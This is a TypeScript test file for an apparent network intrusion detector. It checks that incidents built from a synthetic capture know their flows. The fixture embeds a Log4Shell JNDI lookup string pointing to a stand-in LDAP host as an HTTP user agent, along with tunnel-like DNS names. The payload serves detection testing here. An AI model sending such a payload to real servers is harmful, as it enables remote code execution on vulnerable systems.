// Flows of an incident are the flows whose incidents it is among: for pairs and for names, asked for while the capture
// grows and only at its end.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { type FlowRow, flowRow } from '../../contract/index.ts';
import { foreignBaseline } from '../detect/index.ts';
import type { Incident } from '../evidence/index.ts';
import { CaptureStream } from '../read/index.ts';
import { MadeCapture } from '../testing/evidence-kit.ts';
import { testModel } from '../testing/models.ts';
import { RowChains } from './row-chains.ts';
import { Scorer } from './scoring.ts';

const folder = mkdtempSync(join(tmpdir(), 'sightline-incident-flows-'));
after(() => rmSync(folder, { recursive: true, force: true }));
const model = testModel();

/** Two hosts attack and ask servers that both know, several times each, and browse without an incident in between. */
function capture(): Uint8Array {
  const made = new MadeCapture();
  const agent = '${jndi:ldap://198.51.100.7:1389/a}';
  for (let i = 0; i < 700; i++) {
    const from = `10.0.0.${5 + (i % 2)}`;
    made.http([{ host: 'shop.test', agent }], { from, to: `45.79.${i % 3}.${i % 100}`, at: i });
    made.http([{ host: 'shop.test' }], { from, to: `45.79.${i % 3}.${i % 100}`, at: i + 0.2 });
    made.dns(`${'x'.repeat(51)}${i}.zone-${i % 40}.test`, '45.79.10.22', i + 0.4);
    made.dns(`www.zone-${i % 50}.test`, '45.79.10.22', i + 0.6);
  }
  // Flows of DNS to the same server are no part of this one.
  made.http([{ host: 'shop.test', agent }], { to: '10.0.0.1', at: 701 });
  return made.bytes();
}

/** The same, told flow by flow. */
function expected(scorer: Scorer, incident: Incident): FlowRow[] {
  return Array.from({ length: scorer.analysis.flows.columns.count }, (_, row) => flowRow(row)).filter((row) =>
    scorer.incidentsOf(row).includes(incident),
  );
}

/** @param early also asks whenever an incident grows */
async function scored(early: boolean): Promise<Scorer> {
  let asked = 0;
  const scorer: Scorer = new Scorer(
    { model, baseline: foreignBaseline(model), threads: 1, cacheFolder: folder, keepPackets: true },
    {
      incident: (_a, incident) => {
        if (!early || asked++ % 7 !== 0) return;
        assert.deepEqual(scorer.flowsOf(incident), expected(scorer, incident));
      },
    },
  );
  new CaptureStream(scorer.analysis).push(capture());
  await scorer.finish();
  await scorer.close();
  assert.ok(!early || asked > 100, `${asked} incidents grew`);
  return scorer;
}

for (const early of [true, false]) {
  test(`an incident knows its flows, asked for ${early ? 'while it grows' : 'at the end'}`, async () => {
    const scorer = await scored(early);
    const incidents = [...scorer.incidents.incidents.values()];
    assert.ok(incidents.filter((i) => i.name === null).length >= 300);
    assert.ok(incidents.filter((i) => i.name !== null).length >= 40);
    let flows = 0;
    for (const incident of incidents) {
      const rows = scorer.flowsOf(incident);
      assert.deepEqual(rows, expected(scorer, incident));
      flows += rows.length;
    }
    assert.ok(flows >= 2_100, `${flows} flows`);
  });
}

test('rows of a hash: in rising order, each once, apart from other keys of the same hash', () => {
  const chains = new RowChains();
  for (let row = 5_000; row >= 0; row--) chains.add(row % 10, row);
  chains.add(3, 13);
  chains.add(-1, 7);
  const threes = Array.from({ length: 500 }, (_, i) => i * 10 + 3);
  assert.deepEqual(
    chains.of(3, () => true),
    threes,
  );
  assert.deepEqual(
    chains.of(3, (row) => row % 20 === 3),
    threes.filter((row) => row % 20 === 3),
  );
  assert.deepEqual([chains.of(0xffffffff, () => true), chains.of(11, () => true)], [[7], []]);
});
